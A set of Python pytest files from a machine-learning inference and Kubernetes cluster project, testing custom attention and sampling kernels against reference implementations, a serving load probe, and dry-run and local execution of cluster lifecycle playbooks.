    want_a, want_b = spec_accept_ref(logits, draft)
    for vt in (512, 256, 128):
        got_a, got_b = spec_accept_bass(logits, draft, vt=vt)
        np.testing.assert_array_equal(np.asarray(got_a),
                                      np.asarray(want_a), err_msg=f"vt={vt}")
        np.testing.assert_array_equal(np.asarray(got_b),
                                      np.asarray(want_b), err_msg=f"vt={vt}")


def test_bass_paged_attn_matches_attend_cached():
    """The block-table-walking kernel against the gathered-copy einsum
    on a ragged pool: GQA, non-dividing valid_len, shuffled tables."""
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.infer.engine import _attend_cached
    from kubeoperator_trn.kernels.paged_attn_bass import paged_attend_bass

    rng = np.random.default_rng(0)
    b, h, kvh, hd, bs, mb = 3, 4, 2, 64, 16, 4
    nb = b * mb + 1
    q = jnp.asarray(rng.normal(size=(b, 1, h, hd)), jnp.float32)
    ck = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), jnp.float32)
    cv = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), jnp.float32)
    tables = jnp.asarray(
        rng.permutation(nb - 1)[:b * mb].reshape(b, mb) + 1, jnp.int32)
    valid = jnp.asarray([1, 23, 64], jnp.int32)
    qp = (valid - 1)[:, None]
    want = _attend_cached(q, ck, cv, qp, kvh, valid, tables)
    for pt, acc in ((1, "pool"), (2, "f32"), (4, "pool")):
        got = paged_attend_bass(q, ck, cv, qp, kvh, valid, tables,
                                pt=pt, acc=acc)
        np.testing.assert_allclose(
            np.asarray(got, np.float32), np.asarray(want, np.float32),
            rtol=2e-4, atol=2e-4, err_msg=f"pt={pt} acc={acc}")


def test_bass_paged_attn_cross_page_rescale_ties():
    """Equal score maxima planted in different pages: the online
    softmax's running-max correction must weight both lanes equally no
    matter which page tile sees the max first, and rows whose later
    pages are fully masked must not pick up exp(0) mass."""
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.infer.engine import _attend_cached
    from kubeoperator_trn.kernels.paged_attn_bass import paged_attend_bass

    b, h, kvh, hd, bs, mb = 2, 2, 1, 64, 16, 4
    nb = b * mb + 1
    q = np.zeros((b, 1, h, hd), np.float32)
    q[:, :, :, 0] = 1.0                      # scores = k[..., 0] / sqrt(hd)
    ck = np.zeros((nb, bs, kvh, hd), np.float32)
    cv = np.random.default_rng(1).normal(
        size=(nb, bs, kvh, hd)).astype(np.float32)
    tables = (np.arange(b * mb, dtype=np.int32).reshape(b, mb) + 1)
    # slot 0: identical maxima in page 0 and page 3 (tie across pages);
    # slot 1: short sequence — pages past ceil(valid/BS) hold garbage
    ck[tables[0, 0], 2, :, 0] = 5.0
    ck[tables[0, 3], 7, :, 0] = 5.0
    ck[tables[1, 0], 1, :, 0] = 5.0
    ck[tables[1, 2]:, :, :, 0] = 1e4         # must never be read
    valid = np.asarray([mb * bs, 18], np.int32)
    qp = (valid - 1)[:, None]
    args = (jnp.asarray(q), jnp.asarray(ck), jnp.asarray(cv),
            jnp.asarray(qp), kvh, jnp.asarray(valid),
            jnp.asarray(tables))
    want = _attend_cached(args[0], args[1], args[2], args[3], kvh,
                          args[5], args[6])
    for pt in (1, 2, 4):
        got = paged_attend_bass(*args, pt=pt)
        np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                                   rtol=2e-4, atol=2e-4,
                                   err_msg=f"pt={pt}")


def _prefill_kernel_case(rng, b, c, h, kvh, hd, bs, mb, starts, nvs):
    import jax.numpy as jnp

    nb = b * mb + 1
    q = jnp.asarray(rng.normal(size=(b, c, h, hd)), jnp.float32)
    knew = jnp.asarray(rng.normal(size=(b, c, kvh, hd)), jnp.float32)
    vnew = jnp.asarray(rng.normal(size=(b, c, kvh, hd)), jnp.float32)
    ck = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), jnp.float32)
    cv = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), jnp.float32)
    tables = jnp.asarray(
        rng.permutation(nb - 1)[:b * mb].reshape(b, mb) + 1, jnp.int32)
    start = jnp.asarray(starts, jnp.int32)
    nv = jnp.asarray(nvs, jnp.int32)
    q_pos = start[:, None] + jnp.arange(c, dtype=jnp.int32)[None]
    wm = jnp.arange(c, dtype=jnp.int32)[None] < nv[:, None]
    return q, knew, vnew, ck, cv, tables, q_pos, start + nv, wm


def test_bass_prefill_attn_matches_jax_twin():
    """The chunked-prefill kernel (ISSUE 18) against the pure-jax twin:
    ragged history lengths (zero, mid-page, multi-page), GQA ratios,
    and a ragged chunk tail — attention outputs to tolerance AND the
    fused in-kernel scatter landing bit-identical pools (write-once
    invariant: the kernel is the only writer of the chunk's rows)."""
    import numpy as np

    from kubeoperator_trn.kernels.prefill_attn_bass import (
        paged_prefill_attend_bass)
    from kubeoperator_trn.ops.paged_attn import paged_prefill_blockwise

    rng = np.random.default_rng(0)
    for h, kvh in ((4, 1), (4, 2), (4, 4)):
        case = _prefill_kernel_case(
            rng, 3, 64, h, kvh, 64, 16, 8,
            starts=[0, 9, 64], nvs=[64, 23, 64])
        q, knew, vnew, ck, cv, tables, q_pos, valid, wm = case
        want, ck_ref, cv_ref = paged_prefill_blockwise(
            q, knew, vnew, ck, cv, q_pos, kvh, valid, tables, wm)
        for qt, pt, acc in ((64, 1, "pool"), (32, 2, "f32"),
                            (16, 4, "pool")):
            got, ck2, cv2 = paged_prefill_attend_bass(
                q, knew, vnew, ck, cv, q_pos, kvh, valid, tables, wm,
                qt=qt, pt=pt, acc=acc)
            np.testing.assert_allclose(
                np.asarray(got, np.float32), np.asarray(want, np.float32),
                rtol=2e-4, atol=2e-4,
                err_msg=f"h={h} kvh={kvh} qt={qt} pt={pt} acc={acc}")
            np.testing.assert_array_equal(
                np.asarray(ck2), np.asarray(ck_ref),
                err_msg=f"K scatter h={h} kvh={kvh} qt={qt} pt={pt}")
            np.testing.assert_array_equal(
                np.asarray(cv2), np.asarray(cv_ref),
                err_msg=f"V scatter h={h} kvh={kvh} qt={qt} pt={pt}")


def test_bass_prefill_attn_chunk_boundaries():
    """Chunk-by-chunk prefill through the kernel must equal attending
    the whole prompt in one gathered-copy shot: each chunk sees earlier
    chunks only through the pages its own fused scatter wrote."""
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.infer.engine import _attend_cached
    from kubeoperator_trn.kernels.prefill_attn_bass import (
        paged_prefill_attend_bass)

    rng = np.random.default_rng(1)
    b, c, h, kvh, hd, bs, mb = 1, 32, 4, 2, 64, 16, 8
    total = 3 * c - 10                       # ragged last chunk
    nb = mb + 1
    qs = jnp.asarray(rng.normal(size=(b, total, h, hd)), jnp.float32)
    ks = jnp.asarray(rng.normal(size=(b, total, kvh, hd)), jnp.float32)
    vs = jnp.asarray(rng.normal(size=(b, total, kvh, hd)), jnp.float32)
    ck = jnp.zeros((nb, bs, kvh, hd), jnp.float32)
    cv = jnp.zeros((nb, bs, kvh, hd), jnp.float32)
    tables = jnp.arange(1, mb + 1, dtype=jnp.int32)[None]
    outs = []
    for s0 in range(0, total, c):
        nv = min(c, total - s0)
        q = jnp.zeros((b, c, h, hd), jnp.float32
                      ).at[:, :nv].set(qs[:, s0:s0 + nv])
        kn = jnp.zeros((b, c, kvh, hd), jnp.float32
                       ).at[:, :nv].set(ks[:, s0:s0 + nv])
        vn = jnp.zeros((b, c, kvh, hd), jnp.float32
                       ).at[:, :nv].set(vs[:, s0:s0 + nv])
        q_pos = jnp.asarray([s0], jnp.int32)[:, None] \
            + jnp.arange(c, dtype=jnp.int32)[None]
        wm = (jnp.arange(c, dtype=jnp.int32) < nv)[None]
        got, ck, cv = paged_prefill_attend_bass(
            q, kn, vn, ck, cv, q_pos, kvh,
            jnp.asarray([s0 + nv], jnp.int32), tables, wm, qt=32, pt=2)
        outs.append(np.asarray(got)[:, :nv])
    chunked = np.concatenate(outs, axis=1)
    want = _attend_cached(
        qs, ck, cv, jnp.arange(total, dtype=jnp.int32)[None], kvh,
        jnp.asarray([total], jnp.int32), tables)
    np.testing.assert_allclose(chunked, np.asarray(want),
                               rtol=2e-4, atol=2e-4)


def test_bass_prefill_attn_ignores_stale_history():
    """Poisoned pool pages past the valid history must not move the
    output (recycled-block regression on the prefill path), and the
    uniform history bound must exclude the chunk's own boundary page
    rows from the history phase (no double attending)."""
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.kernels.prefill_attn_bass import (
        paged_prefill_attend_bass)

    rng = np.random.default_rng(2)
    case = _prefill_kernel_case(
        rng, 2, 32, 4, 2, 64, 16, 6, starts=[5, 33], nvs=[32, 17])
    q, knew, vnew, ck, cv, tables, q_pos, valid, wm = case
    base, _, _ = paged_prefill_attend_bass(
        q, knew, vnew, ck, cv, q_pos, 2, valid, tables, wm, qt=32, pt=2)
    keep = set()
    tb = np.asarray(tables)
    bs = ck.shape[1]
    for i, vl in enumerate(np.asarray(valid)):
        for j in range(-(-int(vl) // bs)):
            keep.add(int(tb[i, j]))
    mask = np.ones(ck.shape[0], bool)
    mask[sorted(keep)] = False
    ck2 = jnp.asarray(np.where(mask[:, None, None, None], 1e4,
                               np.asarray(ck)), jnp.float32)
    cv2 = jnp.asarray(np.where(mask[:, None, None, None], -1e4,
                               np.asarray(cv)), jnp.float32)
    got, _, _ = paged_prefill_attend_bass(
        q, knew, vnew, ck2, cv2, q_pos, 2, valid, tables, wm, qt=32,
        pt=2)
    np.testing.assert_allclose(np.asarray(got), np.asarray(base),
                               rtol=2e-4, atol=2e-4)


def test_bass_sample_greedy_matches_twin_ragged_vt():
    """Fused sampler vs the pure-jax twin on a ragged vocab (777) at
    several tile widths, including a max-tie straddling a tile
    boundary — argmax must keep the lowest index across tiles."""
    import jax
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.kernels.sample_bass import sample_bass
    from kubeoperator_trn.ops.attention import NEG_INF
    from kubeoperator_trn.ops.sampling import sample_blockwise

    v = 777
    x = np.array(jax.random.normal(jax.random.key(0), (4, v)),
                 np.float32)
    big = float(np.max(x) + 3.0)
    x[0, 255] = big
    x[0, 256] = big
    xj = jnp.asarray(x)
    inv_t = jnp.ones((4, 1), jnp.float32)
    thr = jnp.full((4, 1), NEG_INF, jnp.float32)
    for vt in (777, 256, 64):
        tok, lp = sample_bass(xj, inv_t, thr, vt=vt)
        rtok, rlp = sample_blockwise(xj, thr, None, vt)
        np.testing.assert_array_equal(np.asarray(tok), np.asarray(rtok))
        np.testing.assert_allclose(np.asarray(lp), np.asarray(rlp),
                                   rtol=1e-4, atol=1e-4)
    assert int(tok[0]) == 255


def test_bass_sample_temperature_noise_matches_twin():
    """Gumbel path: reciprocal-scale on chip equals host divide for
    power-of-two temperatures, so tokens are bitwise the twin's."""
    import jax
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.kernels.sample_bass import sample_bass
    from kubeoperator_trn.ops.attention import NEG_INF
    from kubeoperator_trn.ops.sampling import sample_blockwise

    s, v = 6, 320
    logits = jax.random.normal(jax.random.key(3), (s, v), jnp.float32)
    temps = jnp.asarray([0.5, 1.0, 2.0, 0.25, 4.0, 0.5],
                        jnp.float32)[:, None]
    noise = jax.random.gumbel(jax.random.key(9), (s, v), jnp.float32)
    thr = jnp.full((s, 1), NEG_INF, jnp.float32)
    tok, _ = sample_bass(logits, 1.0 / temps, thr, noise=noise, vt=96)
    rtok, _ = sample_blockwise(logits / temps, thr, noise, 96)
    np.testing.assert_array_equal(np.asarray(tok), np.asarray(rtok))


def test_bass_sample_topk_mask_and_dead_tiles():
    """Row thresholds that kill entire vocab tiles: masked lanes sit at
    -1e30 and must never win nor pollute the running logsumexp, even
    when a whole tile is masked out."""
    import jax
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.kernels.sample_bass import sample_bass
    from kubeoperator_trn.ops.sampling import (row_thresholds,
                                               sample_blockwise)

    s, v, vt = 4, 256, 64
    scaled = jax.random.normal(jax.random.key(5), (s, v), jnp.float32)
    # keep only the global top-2: with high probability both live in
    # the same or adjacent tiles, leaving other tiles fully masked
    thr = row_thresholds(scaled, jnp.full((s,), 2, jnp.int32), 8)
    tok, lp = sample_bass(scaled, jnp.ones((s, 1), jnp.float32), thr,
                          vt=vt)
    rtok, rlp = sample_blockwise(scaled, thr, None, vt)
    np.testing.assert_array_equal(np.asarray(tok), np.asarray(rtok))
    np.testing.assert_allclose(np.asarray(lp), np.asarray(rlp),
                               rtol=1e-4, atol=1e-4)
    np.testing.assert_array_equal(np.asarray(tok),
                                  np.argmax(np.asarray(scaled), -1))
