"""BASS kernel numerics (CPU simulator path)."""

import pytest

from kubeoperator_trn.kernels import bass_available

pytestmark = pytest.mark.skipif(not bass_available(), reason="concourse not present")


def test_bass_rmsnorm_matches_xla():
    import jax
    import jax.numpy as jnp
    import numpy as np
    from kubeoperator_trn.kernels.rmsnorm_bass import rms_norm_bass
    from kubeoperator_trn.ops import rms_norm

    x = jax.random.normal(jax.random.key(0), (2, 64, 256))
    g = jax.random.normal(jax.random.key(1), (256,)) * 0.1 + 1.0
    want = rms_norm(x, g)
    got = rms_norm_bass(x, g)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=2e-4, atol=2e-4)


def test_bass_rmsnorm_pads_ragged_rows():
    import jax
    import jax.numpy as jnp
    import numpy as np
    from kubeoperator_trn.kernels.rmsnorm_bass import rms_norm_bass
    from kubeoperator_trn.ops import rms_norm

    x = jax.random.normal(jax.random.key(2), (3, 50, 128))  # 150 rows: pad to 256
    g = jnp.ones((128,))
    got = rms_norm_bass(x, g)
    want = rms_norm(x, g)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=2e-4, atol=2e-4)
