"""Smoke for tools/serve_probe.py: the continuous-batching load probe.

The slow test runs the probe end-to-end in fast mode (subprocess, CPU)
and checks the JSON invariants the probe itself enforces via its exit
code — temp-0 parity with sequential generate, a flat compile counter
after warmup, and no leaked KV blocks — plus basic shape of the report.
The scaling assertion here is deliberately loose (> 1x) so a loaded CI
box doesn't flake; the >= 3x acceptance bar is the probe's own job on a
quiet machine.
"""

import json
import os
import subprocess
import sys

import pytest

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(REPO, "tools"))


def test_percentile_and_request_mix():
    from kubeoperator_trn.models import llama
    from serve_probe import make_requests, percentile

    assert percentile([], 50) is None
    assert percentile([3.0], 95) == 3.0
    assert percentile([3.0, 1.0, 2.0], 50) == 2.0
    assert percentile([3.0, 1.0, 2.0], 95) == 3.0

    cfg = llama.PRESETS["llama3_tiny"]
    reqs = make_requests(cfg, 16, 32, seed=0)
    assert len(reqs) == 16
    lens = {len(p) for p, _ in reqs}
    news = {n for _, n in reqs}
    assert len(lens) > 1 and len(news) > 1  # actually mixed
    for prompt, new in reqs:
        assert 1 <= new <= 32
        assert (prompt >= 0).all() and (prompt < cfg.vocab_size).all()
    # deterministic: same seed, same workload
    again = make_requests(cfg, 16, 32, seed=0)
    assert all((a == b).all() and m == n
               for (a, m), (b, n) in zip(reqs, again))


def test_prefix_request_mix_shares_one_head():
    from kubeoperator_trn.models import llama
    from serve_probe import make_prefix_requests

    cfg = llama.PRESETS["llama3_tiny"]
    reqs = make_prefix_requests(cfg, 8, shared_len=32, tail_max=6,
                                max_new=4, seed=0)
    assert len(reqs) == 8
    head = reqs[0][0][:32]
    for prompt, new in reqs:
        assert new == 4
        assert (prompt[:32] == head).all(), "shared system prompt"
        assert 33 <= len(prompt) <= 38, "1..tail_max user-turn tail"
    assert len({tuple(p[32:].tolist()) for p, _ in reqs}) > 1
    # same tail_seed -> same workload; different -> fresh user turns
    again = make_prefix_requests(cfg, 8, shared_len=32, tail_max=6,
                                 max_new=4, seed=0, tail_seed=7)
    third = make_prefix_requests(cfg, 8, shared_len=32, tail_max=6,
                                 max_new=4, seed=0, tail_seed=7)
    assert all((a == b).all() for (a, _), (b, _) in zip(again, third))
    assert (again[0][0][:32] == head).all(), "head pinned by seed alone"
    assert not all(len(a) == len(b) and (a == b).all()
                   for (a, _), (b, _) in zip(reqs, again))


@pytest.mark.slow
def test_serve_probe_prefix_leg_runs():
    env = dict(os.environ, JAX_PLATFORMS="cpu", KO_PROBE_FAST="1")
    out = subprocess.run(
        [sys.executable, os.path.join(REPO, "tools", "serve_probe.py"),
         "--leg", "prefix"],
        capture_output=True, text=True, timeout=240, env=env, check=True,
    )
    result = json.loads(out.stdout.strip())
    assert result["metric"] == "serve_prefix_cache"
    assert result["parity_temp0_on_vs_off"] is True
    assert result["blocks_leaked"] == 0
    assert result["hit_rate"] >= 0.9
    # the probe's own gate is >= 3x on a quiet box; stay loose here
    assert result["ttft_p50_speedup"] > 1.0
    assert result["tokens_saved"] > 0


@pytest.mark.slow
def test_serve_probe_tool_runs():
    env = dict(os.environ, JAX_PLATFORMS="cpu", KO_PROBE_FAST="1")
    out = subprocess.run(
        [sys.executable, os.path.join(REPO, "tools", "serve_probe.py"),
         "--requests", "10", "--max-new", "12"],
        capture_output=True, text=True, timeout=240, env=env, check=True,
    )
    result = json.loads(out.stdout.strip())
    assert result["metric"] == "serve_continuous_batching"
    assert result["parity_temp0"] is True
    assert result["compiles_after_warmup"] == 0
    assert result["blocks_leaked"] == 0
    assert [lv["concurrency"] for lv in result["levels"]] == [1, 8]
    assert result["scaling"] > 1.0
    for lv in result["levels"]:
        assert lv["new_tokens"] == result["levels"][0]["new_tokens"]
        assert 0 < lv["mean_occupancy"] <= 1
        assert lv["ttft_p50_ms"] <= lv["ttft_p95_ms"]
