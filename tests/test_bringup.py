"""Single-node bring-up through REAL playbook content (BASELINE
configs[0]; SURVEY.md §7 stage 1): every lifecycle op drives the actual
playbook YAML through LocalPlaybookRunner with full variable rendering —
zero unrendered ``{{`` anywhere, per-phase timings recorded."""

import json
import time
import urllib.request

import pytest

from kubeoperator_trn.cluster.runner import LocalPlaybookRunner, PhaseResult
from kubeoperator_trn.cluster.api import make_server
from kubeoperator_trn.server import PLAYBOOK_DIR, build_app


class Client:
    def __init__(self, port):
        self.base = f"http://127.0.0.1:{port}"
        self.token = None

    def req(self, method, path, body=None, expect=None):
        data = json.dumps(body).encode() if body is not None else None
        r = urllib.request.Request(self.base + path, data=data, method=method)
        r.add_header("Content-Type", "application/json")
        if self.token:
            r.add_header("Authorization", f"Bearer {self.token}")
        try:
            with urllib.request.urlopen(r) as resp:
                status, payload = resp.status, resp.read()
        except urllib.error.HTTPError as e:
            status, payload = e.code, e.read()
        payload = json.loads(payload)
        if expect is not None:
            assert status == expect, (status, payload)
        return status, payload


@pytest.fixture()
def dryrun_app():
    runner = LocalPlaybookRunner(PLAYBOOK_DIR, dry_run=True)
    api, engine, db = build_app(runner=runner, admin_password="pw")
    server, thread = make_server(api)
    thread.start()
    client = Client(server.server_address[1])
    _, out = client.req("POST", "/api/v1/auth/login",
                        {"username": "admin", "password": "pw"}, expect=200)
    client.token = out["token"]
    yield client, engine, db
    engine.shutdown()
    server.shutdown()


def _mk_cluster(client, name="local1", neuron=True, efa=True):
    _, cred = client.req("POST", "/api/v1/credentials",
                         {"name": "c-" + name, "username": "root", "secret": "k"},
                         expect=201)
    _, host = client.req("POST", "/api/v1/hosts",
                         {"name": "h-" + name, "ip": "127.0.0.1",
                          "credential_id": cred["id"]}, expect=201)
    _, out = client.req("POST", "/api/v1/clusters", {
        "name": name,
        "spec": {"version": "v1.28.8", "neuron": neuron, "efa": efa},
        "nodes": [{"name": name + "-m0", "host_id": host["id"],
                   "role": "master"}],
    }, expect=202)
    return out


def _task_logs(client, task_id):
    _, logs = client.req("GET", f"/api/v1/tasks/{task_id}/logs", expect=200)
    return [l["line"] for l in logs["items"]]


def _assert_task_rendered(client, engine, task_id, expect_phases=None):
    assert engine.wait(task_id, timeout=120)
    _, task = client.req("GET", f"/api/v1/tasks/{task_id}", expect=200)
    assert task["status"] == "Success", task
    lines = _task_logs(client, task_id)
    unrendered = [l for l in lines if "{{" in l]
    assert not unrendered, unrendered[:10]
    assert any("would run:" in l for l in lines)  # the dry-run actually rendered
    _, t = client.req("GET", f"/api/v1/tasks/{task_id}/timings", expect=200)
    assert all(p["wall_s"] is not None for p in t["phases"]), t
    if expect_phases:
        names = [p["name"] for p in t["phases"]]
        for ph in expect_phases:
            assert ph in names, (ph, names)
    return lines


def test_create_scale_upgrade_backup_restore_render_end_to_end(dryrun_app):
    """The whole lifecycle against real playbook YAML: create (all
    neuron+efa phases), scale-out, scale-in, upgrade, backup, restore,
    app deploy, delete — every phase renders and succeeds."""
    client, engine, db = dryrun_app
    out = _mk_cluster(client)
    _assert_task_rendered(client, engine, out["task_id"], expect_phases=[
        "precheck", "prepare-os", "container-runtime", "etcd", "kubeadm-init",
        "join-masters", "join-workers", "cni", "storage", "ingress",
        "neuron-driver", "neuron-toolchain", "neuron-device-plugin",
        "neuron-scheduler-extender", "neuron-monitor", "efa-fabric",
        "fabric-smoke-test", "monitoring", "post-check",
    ])

    # scale-out (new_nodes extra var)
    _, h2 = client.req("POST", "/api/v1/hosts",
                       {"name": "h2", "ip": "127.0.0.2"}, expect=201)
    _, s = client.req("POST", "/api/v1/clusters/local1/nodes",
                      {"add": [{"name": "w1", "host_id": h2["id"]}]}, expect=202)
    _assert_task_rendered(client, engine, s["task_id"],
                          expect_phases=["kubeadm-join"])

    # scale-in (remove_nodes extra var -> drain/remove)
    _, si = client.req("POST", "/api/v1/clusters/local1/nodes",
                       {"remove": ["w1"]}, expect=202)
    _assert_task_rendered(client, engine, si["task_id"],
                          expect_phases=["drain-nodes", "remove-nodes"])

    # upgrade (target_version extra var)
    _, mans = client.req("GET", "/api/v1/manifests", expect=200)
    target = sorted(m["k8s_version"] for m in mans["items"])[-1]
    _, up = client.req("POST", "/api/v1/clusters/local1/upgrade",
                       {"version": target}, expect=202)
    _assert_task_rendered(client, engine, up["task_id"], expect_phases=[
        "upgrade-precheck", "upgrade-masters", "upgrade-workers",
        "upgrade-postcheck"])

    # backup + restore (bucket / backup_name vars)
    _, acct = client.req("POST", "/api/v1/backupaccounts",
                         {"name": "s3a", "bucket": "ko-backups"}, expect=201)
    _, b = client.req("POST", "/api/v1/clusters/local1/backups",
                      {"backup_account_id": acct["id"]}, expect=202)
    _assert_task_rendered(client, engine, b["task_id"],
                          expect_phases=["velero-backup", "etcd-snapshot"])
    _, backups = client.req("GET", "/api/v1/clusters/local1/backups", expect=200)
    _, r = client.req("POST", "/api/v1/clusters/local1/restore",
                      {"backup_id": backups["items"][0]["id"]}, expect=202)
    _assert_task_rendered(client, engine, r["task_id"],
                          expect_phases=["velero-restore"])

    # full-scope restore: etcd snapshot restore, then velero (SURVEY §3.4)
    _, rf = client.req("POST", "/api/v1/clusters/local1/restore",
                       {"backup_id": backups["items"][0]["id"],
                        "scope": "full"}, expect=202)
    _assert_task_rendered(client, engine, rf["task_id"],
                          expect_phases=["etcd-restore", "velero-restore"])
    client.req("POST", "/api/v1/clusters/local1/restore",
               {"backup_id": backups["items"][0]["id"],
                "scope": "bogus"}, expect=400)

    # app deploy (app_id extra var)
    _, app = client.req("POST", "/api/v1/clusters/local1/apps",
                        {"template": "llama3-8b-pretrain"}, expect=202)
    _assert_task_rendered(client, engine, app["task_id"],
                          expect_phases=["app-deploy"])

    # delete (teardown)
    _, d = client.req("DELETE", "/api/v1/clusters/local1", expect=202)
    _assert_task_rendered(client, engine, d["task_id"],
                          expect_phases=["teardown"])


def test_precheck_executes_for_real(tmp_path):
    """Non-dry-run: precheck's rendered commands actually run locally
    (the configs[0] execution path, no stubs needed)."""
    runner = LocalPlaybookRunner(PLAYBOOK_DIR, dry_run=False)
    inv = {"all": {"hosts": {"n0": {}}, "children": {},
                   "vars": {"kube_version": "v1.28.8",
                            "components": {"etcd": "3.5.12"}}}}
    lines = []
    res = runner.run("precheck", inv, {}, lines.append)
    assert isinstance(res, PhaseResult) and res.ok, (res, lines)
    assert not any("{{" in l for l in lines)

    # no manifest bundle matched spec.version -> the gate fails loudly
    # instead of letting component installs render -latest names that
    # 404 against the pinned-only offline mirror
    bad = {"all": {"hosts": {"n0": {}}, "children": {}, "vars": {}}}
    lines = []
    res = runner.run("precheck", bad, {}, lines.append)
    assert not res.ok
    assert any("no manifest bundle" in l for l in lines), lines


def test_postcheck_executes_with_stub_binaries(tmp_path, monkeypatch):
    """Non-dry-run post-check with stub kubectl/ko-store-kubeconfig on
    PATH — real subprocess execution of rendered playbook content."""
    import os

    bindir = tmp_path / "bin"
    bindir.mkdir()
    for name in ("kubectl", "ko-store-kubeconfig"):
        p = bindir / name
        p.write_text(f"#!/bin/sh\necho {name}-ok \"$@\"\n")
        p.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bindir}:{os.environ['PATH']}")

    # post-check calls /usr/local/bin/ko-store-kubeconfig by absolute
    # path in its last task; run the first two (kubectl) tasks by
    # pointing a copy of the playbook at the stub-reachable parts.
    import yaml
    src = os.path.join(PLAYBOOK_DIR, "post-check.yml")
    plays = yaml.safe_load(open(src))
    plays[0]["tasks"] = [t for t in plays[0]["tasks"]
                         if "/usr/local/bin/" not in (t.get("shell") or t.get("check") or "")]
    pbdir = tmp_path / "pb"
    pbdir.mkdir()
    (pbdir / "post-check.yml").write_text(yaml.safe_dump(plays))

    runner = LocalPlaybookRunner(str(pbdir), dry_run=False)
    inv = {"all": {"hosts": {"n0": {}}, "children": {}, "vars": {}}}
    lines = []
    res = runner.run("post-check", inv, {}, lines.append)
    assert res.ok, (res, lines)
    assert any("kubectl-ok" in l for l in lines), lines


def test_undefined_variable_fails_phase(tmp_path):
    pb = tmp_path / "bad.yml"
    pb.write_text(
        "- name: p\n  hosts: all\n  tasks:\n"
        "    - name: uses missing var\n"
        "      shell: echo {{ not_defined_anywhere }}\n"
    )
    runner = LocalPlaybookRunner(str(tmp_path), dry_run=False)
    inv = {"all": {"hosts": {}, "children": {}, "vars": {}}}
    lines = []
    res = runner.run("bad", inv, {}, lines.append)
    assert not res.ok and res.rc == 3
    assert any("undefined variable" in l for l in lines)


def test_loop_over_group(tmp_path):
    pb = tmp_path / "loop.yml"
    pb.write_text(
        "- name: p\n  hosts: all\n  tasks:\n"
        "    - name: per node\n"
        "      shell: echo drain {{ item }}\n"
        "      loop: \"{{ groups.kube_node }}\"\n"
    )
    runner = LocalPlaybookRunner(str(tmp_path), dry_run=False)
    inv = {"all": {"hosts": {"a": {}, "b": {}},
                   "children": {"kube_node": {"hosts": {"a": {}, "b": {}}}},
                   "vars": {}}}
    lines = []
    res = runner.run("loop", inv, {}, lines.append)
    assert res.ok
    joined = "\n".join(lines)
    assert "drain a" in joined and "drain b" in joined


def test_bad_loop_expression_fails_phase_structurally(tmp_path):
    """A loop that renders to a non-list is a structured rc=3 render
    failure, not an escaping exception (code-review r2 finding)."""
    pb = tmp_path / "badloop.yml"
    pb.write_text(
        "- name: p\n  hosts: all\n  tasks:\n"
        "    - name: bad loop\n"
        "      shell: echo {{ item }}\n"
        "      loop: \"{{ kube_version }}\"\n"
    )
    runner = LocalPlaybookRunner(str(tmp_path), dry_run=False)
    inv = {"all": {"hosts": {}, "children": {},
                   "vars": {"kube_version": "1.28"}}}
    lines = []
    res = runner.run("badloop", inv, {}, lines.append)
    assert not res.ok and res.rc == 3
    assert any("render error" in l for l in lines)


def test_loop_creates_marker_gives_node_level_resume(tmp_path):
    """The day-2 playbook pattern: loop over nodes with a per-item
    `creates` marker — a re-run only touches nodes without markers
    (SURVEY §3.3 'failure-resumable per node')."""
    mark = tmp_path / "marks"
    mark.mkdir()
    pb = tmp_path / "up.yml"
    pb.write_text(
        "- name: p\n  hosts: all\n  tasks:\n"
        "    - name: upgrade node\n"
        f"      creates: {mark}/done-{{{{ item }}}}\n"
        "      shell: |\n"
        f"        echo upgrading {{{{ item }}}}\n"
        f"        touch {mark}/done-{{{{ item }}}}\n"
        "      loop: \"{{ groups.kube_node }}\"\n"
    )
    inv = {"all": {"hosts": {"a": {}, "b": {}},
                   "children": {"kube_node": {"hosts": {"a": {}, "b": {}}}},
                   "vars": {}}}
    runner = LocalPlaybookRunner(str(tmp_path), dry_run=False)
    lines = []
    assert runner.run("up", inv, {}, lines.append).ok
    assert sum("upgrading" in l for l in lines) == 2
    # node b's marker lost -> only b re-runs
    (mark / "done-b").unlink()
    lines2 = []
    assert runner.run("up", inv, {}, lines2.append).ok
    ran = [l for l in lines2 if "upgrading" in l]
    skipped = [l for l in lines2 if "skip (exists)" in l]
    assert len(ran) == 1 and "b" in ran[0], lines2
    assert len(skipped) == 1, lines2


def test_flannel_local_path_variant_renders(dryrun_app):
    """VERDICT r2 item 7 (playbook option depth): the alternate CNI and
    storage choices are var-driven selections that render end-to-end,
    and the new ntp/registry-auth roles run in the create plan."""
    client, engine, db = dryrun_app
    _, cred = client.req("POST", "/api/v1/credentials",
                         {"name": "c-var", "username": "root", "secret": "k"},
                         expect=201)
    _, host = client.req("POST", "/api/v1/hosts",
                         {"name": "h-var", "ip": "127.0.0.9",
                          "credential_id": cred["id"]}, expect=201)
    _, out = client.req("POST", "/api/v1/clusters", {
        "name": "variant1",
        "spec": {"version": "v1.28.8", "cni": "flannel",
                 "storage": "local-path", "neuron": False, "efa": False},
        "nodes": [{"name": "variant1-m0", "host_id": host["id"],
                   "role": "master"}],
    }, expect=202)
    lines = _assert_task_rendered(client, engine, out["task_id"], expect_phases=[
        "precheck", "prepare-os", "ntp", "container-runtime",
        "registry-auth", "cni", "storage"])
    joined = "\n".join(lines)
    assert "flannel-" in joined          # cni manifest resolved by version
    assert "calico-" not in joined       # the other choice NOT applied
    # storage manifest resolved by version too (mirror holds one file
    # per bundle, so the playbook must name the bundle's rendering)
    from kubeoperator_trn.cluster import entities as E

    lp_ver = E.DEFAULT_MANIFESTS[0].components["local-path"]
    assert f"local-path-provisioner-{lp_ver}.yaml" in joined
